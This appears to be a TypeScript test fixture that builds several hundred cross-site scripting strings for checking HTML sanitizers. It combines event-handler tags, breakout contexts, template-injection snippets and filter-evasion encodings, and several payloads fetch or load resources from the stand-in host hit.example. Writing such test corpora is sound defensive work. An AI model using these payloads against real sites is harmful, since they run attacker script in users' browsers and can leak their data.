/**
 * Ways in which words try to become code: every tag that can run something, with every event that fires on it, in the contexts
 * that it could break out of and the spellings that a careless filter lets through. Whatever runs sets `hit`, asks for
 * hit.example, opens a dialog or leaves an element with `data-hit`.
 */

const code = 'window.hit=1;fetch("https://hit.example/");alert(1)';
const inTag = code.replace(/"/g, '&quot;');
const tags = [
  ...['onload', 'onerror', 'onbegin'].map((event) => `<svg data-hit ${event}="${inTag}"><animate ${event}="${inTag}">`),
  ...['onerror', 'onload', 'onloadstart'].map((event) => `<img data-hit src=x ${event}="${inTag}">`),
  ...['onerror', 'oncanplay'].map((event) => `<video data-hit ${event}="${inTag}"><source src=x ${event}="${inTag}">`),
  ...['onfocus', 'onanimationstart', 'onpointerover'].map((event) => `<input data-hit autofocus ${event}="${inTag}">`),
  `<details data-hit open ontoggle="${inTag}">`,
  `<body data-hit onpageshow="${inTag}">`,
  `<iframe data-hit srcdoc="&lt;script&gt;parent.hit=1&lt;/script&gt;"></iframe>`,
  '<iframe data-hit src="javascript:parent.hit=1"></iframe>',
  `<script data-hit>${code}</script>`,
  '<script data-hit src="https://hit.example/x.js"></script>',
  '<object data-hit data="https://hit.example/"></object>',
  '<link data-hit rel=stylesheet href="https://hit.example/x.css">',
  '<base data-hit href="https://hit.example/">',
  `<style data-hit>@import "https://hit.example/";</style>`,
  `<a data-hit href="javascript:${inTag}">x</a>`,
  '<form data-hit action="https://hit.example/"><button>x</button></form>',
  `<math data-hit><mtext><style><img src=x onerror="${inTag}"></style></mtext></math>`,
];
/** What they would have to break out of first. */
const contexts = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea></script>',
  '-->',
  '{{constructor.constructor("hit=1")()}}',
  '<%= hit=1 %>',
];
const spellings: readonly ((words: string) => string)[] = [
  (words) => words,
  (words) => words.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (words) => words.replace(/[<>"]/g, (sign) => `\\u00${sign.charCodeAt(0).toString(16)}`),
  (words) => words.replace(/<(\w+)/g, (_, name: string) => `<${name.toUpperCase()}\t`),
];

/** All of them, each once: more than five hundred. */
export const hostileStrings: readonly string[] = contexts.flatMap((context) =>
  tags.flatMap((tag) => spellings.map((spelling) => spelling(context + tag))),
);

/** Words as a page would show them: no page runs them itself. */
export const shown = (words: string): string =>
  words.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
